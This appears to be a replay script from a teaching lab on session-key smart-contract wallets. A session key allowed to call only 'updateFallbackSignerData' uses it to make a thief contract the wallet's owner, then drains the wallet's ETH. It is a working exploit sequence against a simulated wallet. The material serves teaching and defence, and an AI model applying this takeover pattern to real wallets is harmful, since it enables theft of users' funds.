"""Replays of lesson 09."""

from __future__ import annotations

import sessionlab as sl


def ether_taken() -> float:
    """The ETH that a thief takes from a wallet by one function of the wallet itself."""
    lab, renew = sl.Lab(seed=9), "updateFallbackSignerData(address,bool)"
    wallet = lab.wallet()
    had = wallet.balance
    session = wallet.grant_permissions([sl.AccountFunctions(functions=[renew])], key=sl.new_key(seed=9))
    thief = sl.attacks.Thief(lab, wallet, session)
    session.send_calls([sl.Call(to=wallet.address, function=renew, args=[thief.address, False])])
    thief.is_owner = lab.read("SessionWallet", wallet.address, "owner") == thief.address
    thief.call(sl.Call(to=thief.address, value=wallet.balance))
    return (had - wallet.balance) / 10**18
